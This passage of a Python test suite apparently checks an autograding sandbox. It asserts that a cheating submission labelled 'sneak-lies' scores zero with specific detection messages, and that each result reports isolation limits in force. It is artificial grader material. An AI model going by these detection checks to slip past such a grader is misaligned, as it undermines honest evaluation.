    tests = {t["name"]: t for t in _results(world, "mixed")[_sid("sneak-lies")]["tests"]}
    for name in ("dcounts_sum_inv", "dcounts_sum", "dprobs"):
        assert tests[name]["score"] == 0
        assert any(text in tests[name]["output"] for text in ("static check", "subclass", "not a torch.Tensor"))


# ---------------------------------------------------------------------------------------------
# Each result says which isolation was in force


def test_every_result_reports_the_isolation_in_force(world):
    for sid, result in _results(world, "mixed").items():
        iso = result["extra_data"]["isolation"]
        assert iso, sid
        if os.getuid() == 0:
            assert iso["user"].startswith("an unprivileged uid of its own"), (sid, iso)
        assert "network namespace" in iso["network"] and "not isolated" not in iso["network"], (sid, iso)
        assert "hidden" in iso["filesystem"] and "not isolated" not in iso["filesystem"], (sid, iso)
        assert iso["pids_cgroup"] == f"pids.max={LIMITS['processes']}", (sid, iso)
        assert iso["limits"]["data_mb"] == LIMITS["memory_mb"], (sid, iso)
        assert iso["missing"] == [] and all(v.startswith("in force: ") for v in iso["walls"].values()), (sid, iso)
        assert iso["limits"]["file_size_mb"] == LIMITS["file_size_mb"], (sid, iso)
        assert iso["limits"]["processes"] == LIMITS["processes"], (sid, iso)

